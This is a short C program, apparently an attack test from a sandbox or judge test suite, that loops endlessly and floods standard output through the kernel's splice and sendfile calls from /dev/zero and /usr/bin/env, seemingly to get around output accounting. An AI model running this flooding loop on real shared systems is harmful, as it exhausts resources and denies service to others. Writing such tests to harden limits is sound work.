/* Output that is never written: spliced, sent and copied into the pipe by the kernel, without end. */
#include "attack.h"
#include <sys/sendfile.h>
int main(void)
{
	int zero = open("/dev/zero", O_RDONLY), file = open("/usr/bin/env", O_RDONLY), ends[2];
	if (pipe(ends)) return 1;
	for (;;) {
		loff_t at = 0;
		splice(file, &at, 1, NULL, 4096, 0);
		at = 0;
		sendfile(1, file, &at, 4096);
		if (splice(zero, NULL, ends[1], NULL, 65536, 0) > 0) while (splice(ends[0], NULL, 1, NULL, 65536, SPLICE_F_NONBLOCK) > 0);
	}
}
